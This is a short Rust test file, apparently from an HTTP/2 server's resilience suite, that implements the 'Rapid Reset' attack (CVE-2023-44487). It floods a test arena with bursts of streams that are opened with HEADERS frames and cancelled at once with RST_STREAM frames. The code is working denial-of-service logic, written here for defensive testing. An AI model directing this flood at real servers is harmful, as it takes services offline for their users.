//! Streams that are opened and reset at once (CVE-2023-44487).

use crate::arena::{Arena, HOSTILE_KIB, beside};
use crate::h2::{END_HEADERS, END_STREAM, HEADERS, REQUEST, RST_STREAM, flood, frame};

/// Streams in one write.
const BURST: u32 = 100;

#[test]
fn rapid_reset() {
    beside(&[], HOSTILE_KIB, &[&attack]);
}

pub(crate) fn attack(arena: &Arena) {
    flood(arena, |number| {
        let streams = (number * BURST..(number + 1) * BURST).map(|stream| 2 * stream + 1);
        let cancel = 8u32.to_be_bytes();
        let both =
            |stream| [frame(HEADERS, END_HEADERS | END_STREAM, stream, REQUEST), frame(RST_STREAM, 0, stream, &cancel)].concat();
        streams.flat_map(both).collect()
    });
}
